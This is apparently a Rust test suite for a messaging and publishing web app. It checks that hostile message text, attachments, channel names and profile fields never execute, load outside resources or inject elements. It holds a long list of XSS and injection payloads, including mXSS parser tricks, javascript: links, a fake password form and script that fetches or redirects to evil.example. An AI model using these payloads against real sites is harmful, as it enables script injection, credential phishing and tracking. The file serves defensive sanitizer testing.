//! Messages from people who mean harm: nothing of theirs runs, leaves a trace in the page around it or asks anybody for
//! anything, in the app and on the sites.
//!
//! The policy of a page would stop much of it. It must not even have to: whatever it refuses fails the story.

use std::cell::Cell;
use std::fmt::Write as _;

use serde_json::{Value, json};

use crate::app::{App, Data, PICTURE};
use crate::browser::Browser;

/// Texts of messages. What runs sets `ran`.
const TEXTS: [&str; 84] = [
    "<script>ran=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=/app/reload.js data-site=x data-page=y></script>",
    "<script type=module>ran=1</script>",
    "<scr<script>ipt>ran=1</scr</script>ipt>",
    "<img src=x onerror=ran=1>",
    "<img src=x onerror=\"ran=1\" onload='ran=1'>",
    "<img/src=x/onerror=ran=1>",
    "<img src=\"x` `<script>ran=1</script>\"` `>",
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=ran=1>#x\"></use></svg>",
    "<svg><image href=https://evil.example/i.png></svg>",
    "<svg><a xlink:href=javascript:ran=1><text y=20>click</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe></foreignObject></svg>",
    "<math href=javascript:ran=1>click</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=ran=1></style></annotation-xml></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=ran=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=ran=1>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=ran=1>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=ran=1>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=ran=1>\">",
    "<template><script>ran=1</script></template><div><template shadowrootmode=open><img src=x \
         onerror=ran=1></template></div>",
    "<!--><img src=x onerror=ran=1>-->",
    "<![CDATA[<img src=x onerror=ran=1>]]>",
    "<?xml-stylesheet href=\"javascript:ran=1\"?>",
    "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<object data=javascript:ran=1></object><embed src=javascript:ran=1>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
    "<frameset onload=ran=1><frame src=javascript:ran=1></frameset>",
    "<body onload=ran=1 background=https://evil.example/b.png>",
    "<base href=https://evil.example/>",
    "<base target=_top><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://evil.example/s.css><link rel=preload as=image href=https://evil.example/p.png>",
    "<link rel=dns-prefetch href=//evil.example><link rel=prefetch href=https://evil.example/f>",
    "<style>@import url(https://evil.example/i.css); body { display: none }</style>",
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/b)\">over all</div>",
    "<details open ontoggle=ran=1><summary>x</summary></details>",
    "<video autoplay onloadstart=ran=1><source src=x onerror=ran=1></video>",
    "<video poster=https://evil.example/p.jpg src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=ran=1></audio>",
    "<input autofocus onfocus=ran=1><select autofocus onfocus=ran=1></select><textarea autofocus \
         onfocus=ran=1></textarea>",
    "<input type=image src=https://evil.example/i.png><button formaction=javascript:ran=1>click</button>",
    "<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>",
    "<marquee onstart=ran=1>x</marquee><div onpointerenter=ran=1 onanimationstart=ran=1 tabindex=1 accesskey=j>x</div>",
    "<table background=https://evil.example/t.png><tr><td background=https://evil.example/d.png>x</td></tr></table>",
    "<img src=https://evil.example/pixel.gif><img srcset=\"https://evil.example/a.png 1x\"><picture><source \
         srcset=https://evil.example/b.png><img></picture>",
    "<a href=javascript:ran=1>click</a> <a href=\"jav\tascript:ran=1\">click</a> <a href=\" \
         &#1;javascript:ran=1\">click</a>",
    "<a href=\"data:text/html,<script>ran=1</script>\">click</a> <a href=vbscript:ran=1>click</a> <a \
         href=blob:x>click</a>",
    "<a href=https://evil.example ping=https://evil.example/ping attributionsrc=https://evil.example/a>a plain \
         link</a>",
    "<a href=/read/hostile/marks>a link that looks like a tool</a> <a href=//evil.example>elsewhere</a>",
    "<area href=javascript:ran=1><map name=m><area shape=rect coords=0,0,999,999 href=javascript:ran=1></map>",
    "<div id=live data-live=channel data-channel=x><p id=said>said</p><div class=\"item unread\" data-key=a/b/c><form \
         action=/read/x/marks><button name=do value=star>Star</button></form></div></div>",
    "<a id=up href=https://evil.example>up</a><a id=nav-write href=https://evil.example>c</a><a id=main>x</a><input \
         id=q><form id=write></form>",
    "<form name=body><input name=dataset><img name=querySelector><img name=getElementById></form><img name=title><a \
         id=witnessed>x</a>",
    "<dialog open>Your key, please</dialog><div popover id=p>x</div>",
    "<x-element is=script>ran=1</x-element><portal src=https://evil.example></portal><fencedframe></fencedframe>",
    "[click](javascript:ran=1) [click](JaVaScRiPt:ran=1) [click](<javascript:ran=1>) [click](java&#115;cript:ran=1)",
    "[click](&#x6A;avascript:ran=1) [click](%6Aavascript:ran=1) [click](javascript&colon;ran=1) \
         [click](\\javascript:ran=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==) [click](vbscript:ran=1) \
         [click](file:///etc/passwd)",
    "<javascript:ran=1> <data:text/html,x> <JAVASCRIPT:ran=1>",
    "![x](javascript:ran=1) ![x](data:image/svg+xml,<svg/onload=ran=1>) ![x\" onerror=\"ran=1](#x)",
    "![](https://evil.example/pixel.gif) ![](//evil.example/p.gif) ![](http://evil.example/a.mp3) \
         ![](https://evil.example/v.mp4)",
    "[x][r] ![y][r]\n\n[r]: javascript:ran=1 \"\\\" onmouseover=\\\"ran=1\"",
    "[x](https://a.example \"t\\\" onmouseover=\\\"ran=1\") [x](https://a.example/\"onmouseover=ran=1//)",
    "```\"><img src=x onerror=ran=1>\n<script>ran=1</script>\n```",
    "```html <script>ran=1</script>\n</code></pre><script>ran=1</script>\n```\n\n`</code><script>ran=1</script>`",
    "# <img src=x onerror=ran=1> a title </title><script>ran=1</script>\n\nbody",
    "# \"><script>ran=1</script>\n\n## ' onmouseover='ran=1 {#said .item onclick=ran=1}\n\n[to](#said)",
    "x[^\"><img src=x onerror=ran=1>] y[^live]\n\n[^\"><img src=x onerror=ran=1>]: <script>ran=1</script>\n[^live]: z",
    "| <script>ran=1</script> | a |\n|---|---|\n| <img src=x onerror=ran=1> | `|<svg onload=ran=1>` |",
    "#<img/src=x/onerror=ran=1> #tag\"onmouseover=ran=1 #javascript:ran=1",
    "&lt;img src=x onerror=ran=1&gt; &#60;script&#62;ran=1&#60;/script&#62;",
    "{{ 7 * 7 }} {% include \"base.html\" %} {{ __tera_context }} {# x #} ${7*7}",
    "---\ntitle: \"</title><script>ran=1</script>\"\ntags: \"<img src=x onerror=ran=1>\", \
         \"'onmouseover='ran=1\"\nlang: en\nsummary: <script>ran=1</script>\n---\n\nhostile header",
    "---\ntitle: {{ 7 * 7 }} \u{202e}txt.exe\nupdated: 2026-01-01T00:00:00Z\nin-reply-to: inbox/../../x\nlang: \
         \"><script>ran=1</script>\n---\n\nhostile header too",
    "\u{202e}<img src=x onerror=ran=1>\u{202c} \u{0}<scr\u{0}ipt>ran=1</scr\u{0}ipt> \
         \u{feff}<\u{200b}script>ran=1</script>",
    "</article></div></main><script>ran=1</script><main><div id=live><h1>Everything is \
         read</h1>\n\n<div>\n\n</div></div></div></div></section>",
];

/// Names of files that are attached, with what is in them.
const FILES: [(&str, &str); 12] = [
    ("\"><img src=x onerror=ran=1>.png", ""),
    ("' onerror='ran=1.jpg", ""),
    ("<script>ran=1<script>.txt", "text"),
    ("javascript:ran=1", "text"),
    (
        "picture.svg",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'><script>ran=1; document.title='ran'; \
             fetch('https://evil.example/')</script><image href='https://evil.example/i.png'/></svg>",
    ),
    (
        "page.html",
        "<title>ran</title><script>ran=1; alert(1); location='https://evil.example/'</script><img \
             src=https://evil.example/p.png>",
    ),
    ("page.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>ran=1</script></html>"),
    (
        "sheet.xml",
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><x \
             xmlns:h='http://www.w3.org/1999/xhtml'><h:script>ran=1</h:script></x>",
    ),
    ("plain.txt", "<script>ran=1</script>"),
    ("not really.png", "<html><script>ran=1</script>"),
    ("paper.pdf", "%PDF-1.4 <script>ran=1</script>"),
    ("code.js", "ran=1"),
];

/// Names of channels' folders.
const CHANNELS: [&str; 7] = [
    "\"><img src=x onerror=ran=1>",
    "<svg onload=ran=1>",
    "{{ 7 * 7 }}",
    "javascript:ran=1",
    "a' onmouseover='ran=1",
    "%2e%2e%2fetc",
    "&lt;script&gt; ?x=y#z",
];

const PROFILE: &str = "title = '</title><script>ran=1</script>'\nauthor = '\"><img src=x onerror=ran=1>'\n\
    description = '<script>ran=1</script>'\nlink = 'javascript:ran=1'\nlanguage = '\"><script>ran=1</script>'\nicon = \
         '../x\" onerror=\"ran=1'\n";

fn hostile() -> App {
    let mut data = Data::new().file("hostile/inbox/.channel.toml", PROFILE);
    for (number, text) in TEXTS.iter().enumerate() {
        data = data.file(&format!("hostile/inbox/2026-01-01T{:02}-{:02}-00Z.txt", number / 60, number % 60), text);
    }
    data = data.file("talk/outbox/2026-01-01T00-00-00Z.txt", "Who are you?").file("talk/inbox/.channel.toml", PROFILE);
    let mut links = String::from("# Files\n\n");
    for (name, bytes) in FILES {
        let bytes = if bytes.is_empty() { PICTURE } else { bytes.as_bytes() };
        data = data.file(&format!("talk/inbox/2026-01-02T00-00-00Z/{name}"), bytes);
        let _ = writeln!(links, "![a](<{name}>) [b](<{name}>)");
    }
    data = data.file("talk/inbox/2026-01-02T00-00-00Z.txt", links);
    for name in CHANNELS {
        data = data
            .file(&format!("{name}/inbox/2026-01-03T00-00-00Z.txt"), TEXTS.concat())
            .file(&format!("{name}/outbox/2026-01-02T00-00-00Z.txt"), "What is this?");
    }
    data.serve()
}

/// What is wrong with the page that is shown, and where.
fn wrong(browser: &Browser) -> Vec<String> {
    let said = browser.ask(
        "(() => {
            const wrong = [...witnessed.refused, ...witnessed.ran];
            for (const e of document.querySelectorAll('*')) for (const { name, value } of e.attributes) {
                if (name.startsWith('on')) wrong.push(`handler ${name} in ${e.outerHTML.slice(0, 200)}`);
                if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'ping'].includes(name)) {
                    const url = new URL(value, location.href);
                    const isLink = name === 'href' && e.matches('a');
                    const isOwn = url.origin === location.origin;
                    if (!['http:', 'https:', 'mailto:'].includes(url.protocol) || !isLink && !isOwn)
                        wrong.push(`address ${value}`);
                }
            }
            const never = 'script, style, iframe, object, embed, link, meta, base, form, button, textarea, dialog, ' +
                'input:not([type=checkbox][disabled]), [style], [popover], [name]';
            for (const e of document.querySelectorAll(`article :is(${never})`))
                wrong.push(`element ${e.outerHTML.slice(0, 200)}`);
            const ids = [...document.querySelectorAll('[id]')].map(e => e.id);
            wrong.push(...ids.filter((id, at) => ids.indexOf(id) !== at).map(id => `id ${id} twice`));
            if (document.title === 'ran') wrong.push('title');
            const asked = performance.getEntriesByType('resource').map(e => e.name);
            wrong.push(...asked.filter(name => !name.startsWith(location.origin)));
            return wrong;
        })()",
    );
    let place = browser.place();
    said.as_array().unwrap().iter().map(|line| format!("{place}: {}", line.as_str().unwrap())).collect()
}

/// The pages of a list, one after the other.
fn turn_through(browser: &Browser, path: &str, each: &mut dyn FnMut(&Browser)) {
    browser.goto(path);
    loop {
        each(browser);
        let older = browser.ask("document.querySelector('.turn [rel=prev], nav [rel=prev]')?.getAttribute('href')");
        let Some(older) = older.as_str() else {
            return;
        };
        let next = browser.ask(&format!("new URL({older:?}, location.href).href.slice(location.origin.length)"));
        browser.goto(next.as_str().unwrap());
    }
}

/// The addresses of all channels' pages, as the app itself writes them.
fn addresses(app: &App, member: &str) -> Vec<String> {
    let channels: Value = serde_json::from_str(&app.get("/channels").1).unwrap();
    channels.as_array().unwrap().iter().map(|channel| channel[member].as_str().unwrap().to_owned()).collect()
}

#[test]
fn nothing_that_strangers_write_runs_in_the_app() {
    let app = hostile();
    let browser = Browser::open(&app);
    let (mut found, messages) = (Vec::new(), Cell::new(0));
    let mut each = |browser: &Browser| {
        found.extend(wrong(browser));
        let shown = browser.ask("document.querySelectorAll('#live > .item').length").as_u64().unwrap();
        messages.set(messages.get() + shown);
    };
    for url in addresses(&app, "url") {
        turn_through(&browser, &url.replacen("/channels/", "/read/", 1), &mut each);
    }
    assert_eq!(
        messages.get(),
        TEXTS.len() as u64 + 2 + 2 * CHANNELS.len() as u64,
        "all are shown, and nothing looks like one"
    );
    turn_through(&browser, "/everything", &mut each);
    turn_through(&browser, "/search?q=ran", &mut each);
    for number in 73..TEXTS.len() {
        browser.goto(&format!("/read/hostile/inbox/2026-01-01T{:02}-{:02}-00Z", number / 60, number % 60));
        each(&browser);
        browser.goto(&format!("/read/hostile/inbox/2026-01-01T{:02}-{:02}-00Z/source", number / 60, number % 60));
        each(&browser);
    }
    let bad = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dran%3D1%3E%3C/script%3E%3Cscript%3Eran%3D1%3C/script%3E";
    for path in ["/", "/drafts", "/write", "/keys"] {
        browser.goto(path);
        each(&browser);
    }
    for path in [
        "/",
        "/read/",
        "/write/",
        "/site/",
        "/search?q=",
        "/search?q=after%3A",
        "/everything?before=",
        "/read/talk?before=",
        "/site/talk/",
        "/write/talk?reply=",
    ] {
        browser.goto(&format!("{path}{bad}"));
        each(&browser);
    }
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn nothing_that_strangers_write_runs_on_the_sites() {
    let app = hostile();
    let browser = Browser::open(&app);
    let mut found = Vec::new();
    let mut each = |browser: &Browser| found.extend(wrong(browser));
    for url in addresses(&app, "site_url") {
        turn_through(&browser, &url, &mut each);
    }
    for number in 0..TEXTS.len() {
        if number % 7 == 0 || number > 72 {
            browser.goto(&format!("/site/hostile/2026-01-01T{:02}-{:02}-00Z.html", number / 60, number % 60));
            each(&browser);
        }
    }
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn nothing_that_strangers_attach_runs_when_it_is_opened() {
    let app = hostile();
    let browser = Browser::open(&app);
    for page in ["/read/talk/inbox/2026-01-02T00-00-00Z", "/site/talk/inbox/2026-01-02T00-00-00Z.html"] {
        browser.goto(page);
        assert_eq!(wrong(&browser), Vec::<String>::new());
        let links = browser.ask(
            "[...new Set([...document.querySelectorAll('article :is(a, img, audio, video)')].map(e => e.href ?? e.src))]
                .filter(url => url.startsWith(location.origin)).map(url => url.slice(location.origin.length))",
        );
        let links: Vec<String> =
            links.as_array().unwrap().iter().map(|link| link.as_str().unwrap().to_owned()).collect();
        assert!(links.len() >= FILES.len(), "{links:#?}");
        for link in links {
            // What is only to be saved leaves the page where it is.
            browser.try_to_go(&link);
            assert_eq!(browser.ask("window.witnessed?.ran ?? []"), json!([]), "{link}");
            assert_ne!(browser.title(), "ran", "{link}");
        }
    }
}

#[test]
fn nothing_runs_that_arrives_while_a_page_is_open_or_is_pasted_into_a_letter() {
    let app = Data::of_three_channels().serve();
    let browser = Browser::open(&app);
    browser.goto("/read/ana");
    app.arrives("ana/inbox/2026-11-05T00-00-00Z.txt", format!("{}\n\nthe end\n", TEXTS.join("\n\n")));
    browser.until("document.querySelectorAll('.item').length === 4");
    assert_eq!(wrong(&browser), Vec::<String>::new());

    // One's own HTML is let through, as on one's own site; the policy refuses what would run.
    browser.goto("/write/ana");
    for text in TEXTS {
        let statements = "const text = document.querySelector('#text');
            text.value = arguments[0];
            text.dispatchEvent(new Event('input'));";
        browser.run(statements, vec![json!(format!("{text}\n\nthe end"))]);
        if browser.ask("document.querySelector('#preview').hidden") == Value::Bool(true) {
            browser.choose("Preview");
        }
    }
    browser.until_shown("#preview", "the end");
    browser.until("document.querySelector('#state').textContent === 'Saved'");
    assert_eq!(browser.ask("witnessed.ran"), json!([]));
    assert_eq!(browser.place().split("/draft-").next(), Some("/write/ana"));
}
